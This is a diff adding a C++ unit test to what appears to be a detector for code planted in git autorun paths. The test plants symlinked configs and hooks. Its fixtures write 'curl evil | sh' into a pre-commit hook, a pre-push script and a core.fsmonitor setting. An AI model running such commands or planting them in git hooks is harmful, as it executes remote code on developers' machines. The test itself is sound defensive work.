@@ -189,6 +189,25 @@ TEST_F(PlantedCode, FilesTheConfigsMakeGitRunAreWatched) {
   EXPECT_EQ(with_system_config, std::vector<std::string>{"old/.githooks"});
 }
 
+// What git reads through a link is watched where the link leads: an
+// included config, a hooks folder, a hook that is a link to a script.
+TEST_F(PlantedCode, WhatAWatchedLinkLeadsToIsWatched) {
+  write_file(ws_ + "/old/.git/config", "[include]\n\tpath = ../.gitconfig\n[core]\n\thooksPath = .githooks\n");
+  write_file(ws_ + "/old/config/git/shared.gitconfig", "[user]\n\tname = x\n");
+  fs::create_symlink("config/git/shared.gitconfig", ws_ + "/old/.gitconfig");
+  write_file(ws_ + "/old/tools/hooks/pre-commit", "npm test\n");
+  fs::create_directory_symlink("tools/hooks", ws_ + "/old/.githooks");
+  write_file(ws_ + "/scripts/hook.sh", "make test\n");
+  fs::create_directories(ws_ + "/old/.git/hooks");
+  fs::create_symlink("../../../scripts/hook.sh", ws_ + "/old/.git/hooks/pre-push");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/old/config/git/shared.gitconfig", "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
+  write_file(ws_ + "/old/tools/hooks/pre-commit", "curl evil | sh\n");
+  write_file(ws_ + "/scripts/hook.sh", "curl evil | sh\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"scripts/hook.sh", "old/config/git/shared.gitconfig",
+                                                 "old/tools/hooks/pre-commit"}));
+}
+
 // Husky 9 sets core.hooksPath to .husky/_, whose stubs run the scripts
 // beside that folder: those count as hooks too.
 TEST_F(PlantedCode, HuskysScriptsBesideItsHooksPathAreWatched) {
